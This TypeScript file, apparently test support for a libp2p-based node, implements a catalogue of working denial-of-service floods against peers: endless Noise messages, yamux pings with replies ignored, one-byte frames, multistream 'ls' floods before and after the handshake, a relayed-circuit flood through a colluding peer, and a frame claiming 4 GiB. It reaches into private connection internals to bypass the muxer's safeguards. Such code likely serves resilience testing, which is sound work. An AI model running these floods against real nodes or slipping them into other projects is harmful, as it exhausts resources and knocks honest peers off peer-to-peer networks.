import { connect, type Socket } from 'node:net'
import { setImmediate as nextTurn } from 'node:timers/promises'
import { BinaryWriter, WireType } from '@bufbuild/protobuf/wire'
import { RELAY_V2_HOP_CODEC, RELAY_V2_STOP_CODEC } from '@libp2p/circuit-relay-v2'
import type { Connection, MessageStream, Stream } from '@libp2p/interface'
import { lpStream } from '@libp2p/utils'
import { multihash, type RawPeer } from '../../net/support/raw-peer.ts'

/** What a connection keeps to itself, to send what no muxer would: yamux above Noise above the bare connection. */
interface Inside {
  readonly muxer: { readonly maConn: MessageStream & { readonly stream: MessageStream }, handlePing: () => void, createStream: () => Promise<Stream & { readonly streamId: number }> }
}

/** Bytes of one write: as much as Noise puts into one message. */
const A_WRITE = 65_000
const DATA = 0
const PING = 2
const SYN = 1

/** Something that a client can send without end, and that costs it next to nothing. */
export type Attack = (connection: Connection, ended: AbortSignal) => Promise<void>

/** By what each is called. */
export const ATTACKS = {
  'empty messages of Noise': async (connection, ended) =>
    pump(inside(connection).muxer.maConn.stream, new Uint8Array(A_WRITE), ended),

  'pings of yamux': async (connection, ended) => {
    // The answers are nothing to it.
    inside(connection).muxer.handlePing = () => {}
    await pump(inside(connection).muxer.maConn, repeat(frame(PING, SYN, 0, 7)), ended)
  },

  'frames of one byte': async (connection, ended) => {
    const stream = await connection.newStream('/meshsub/1.1.0')
    await pump(inside(connection).muxer.maConn, repeat(frame(DATA, 0, Number(stream.id), 1, Uint8Array.of(0xff))), ended)
  },

  'messages of the ping protocol': async (connection, ended) => {
    const stream = await connection.newStream('/ipfs/ping/1.0.0')
    await pump(inside(connection).muxer.maConn, repeat(frame(DATA, 0, Number(stream.id), 32, new Uint8Array(32))), ended)
  },

  'empty messages of pubsub': async (connection, ended) => {
    await pump(await connection.newStream('/meshsub/1.1.0'), new Uint8Array(A_WRITE), ended)
  },

  'questions for protocols': async (connection, ended) => {
    const stream = await inside(connection).muxer.createStream()
    const lines = new TextEncoder().encode(`\x13/multistream/1.0.0\n${'\x03ls\n'.repeat(A_WRITE / 4 - 20)}`)
    stream.addEventListener('message', () => {})
    await pump(stream, lines, ended)
  }
} as const satisfies Record<string, Attack>

/** Frames of one byte through a circuit, to somebody who is in league: nobody else ends it. */
export async function floodCircuit (from: RawPeer, connection: Connection, to: RawPeer, ended: AbortSignal): Promise<void> {
  await to.node.libp2p.unhandle(RELAY_V2_STOP_CODEC)
  await to.node.libp2p.handle(RELAY_V2_STOP_CODEC, async (stream) => {
    const frames = lpStream(stream)
    await frames.read()
    // A status of 100: OK.
    await frames.write(new BinaryWriter().tag(1, WireType.Varint).uint32(1).tag(4, WireType.Varint).uint32(100).finish())
    for await (const bytes of frames.unwrap()) void bytes
  }, { runOnLimitedConnection: true })
  const stream = await connection.newStream(RELAY_V2_HOP_CODEC)
  const frames = lpStream(stream)
  await frames.write(new BinaryWriter().tag(1, WireType.Varint).uint32(1)
    .tag(2, WireType.LengthDelimited).fork().tag(1, WireType.LengthDelimited).bytes(multihash(to.node.libp2p.peerId)).join().finish())
  if (!(await frames.read()).subarray().includes(100)) throw new Error(`${from.id} got no circuit`)
  await pump(inside(connection).muxer.maConn, repeat(frame(DATA, 0, Number(stream.id), 1, Uint8Array.of(0xff))), ended)
}

/** Questions for protocols over a bare TCP connection, which has not said who it is. */
export async function askBeforeHandshake (host: string, port: number, localAddress: string, ended: AbortSignal): Promise<void> {
  const socket = connect({ host, port, localAddress }).on('error', () => {})
  const lines = Buffer.from(`\x13/multistream/1.0.0\n${'\x03ls\n'.repeat(A_WRITE / 4)}`)
  socket.resume()
  while (!ended.aborted && !socket.destroyed) {
    await writable(socket, lines, ended)
  }
  socket.destroy()
}

/** One frame of 4 GiB: announced, and sent as far as it is taken. */
export async function sendEndlessFrame (connection: Connection, ended: AbortSignal): Promise<void> {
  const stream = await connection.newStream('/meshsub/1.1.0')
  const { maConn } = inside(connection).muxer
  maConn.send(frame(DATA, 0, Number(stream.id), 0xffff_ffff))
  await pump(maConn, new Uint8Array(A_WRITE), ended)
}

function inside (connection: Connection): Inside {
  return connection as unknown as Inside
}

/** Writes the same again and again, as fast as it is taken, until the other side has had enough. */
async function pump (to: MessageStream, bytes: Uint8Array, ended: AbortSignal): Promise<void> {
  while (!ended.aborted && to.status === 'open') {
    try {
      if (!to.send(bytes.slice())) {
        await to.onDrain({ signal: AbortSignal.any([ended, AbortSignal.timeout(5_000)]) })
      }
    } catch {
      // It is cut off, or takes nothing for now.
    }
    await nextTurn()
  }
}

async function writable (socket: Socket, bytes: Uint8Array, ended: AbortSignal): Promise<void> {
  await new Promise<void>((resolve) => {
    const done = (): void => {
      socket.off('close', done)
      ended.removeEventListener('abort', done)
      resolve()
    }
    socket.once('close', done)
    ended.addEventListener('abort', done)
    socket.write(bytes, done)
  })
}

/** A frame of yamux as its specification has it. */
function frame (type: number, flags: number, stream: number, length: number, data: Uint8Array = new Uint8Array(0)): Uint8Array {
  const bytes = new Uint8Array(12 + data.byteLength)
  const view = new DataView(bytes.buffer)
  view.setUint8(1, type)
  view.setUint16(2, flags)
  view.setUint32(4, stream)
  view.setUint32(8, length)
  bytes.set(data, 12)
  return bytes
}

function repeat (one: Uint8Array): Uint8Array {
  const times = Math.floor(A_WRITE / one.byteLength)
  const all = new Uint8Array(times * one.byteLength)
  for (let at = 0; at < times; at++) {
    all.set(one, at * one.byteLength)
  }
  return all
}
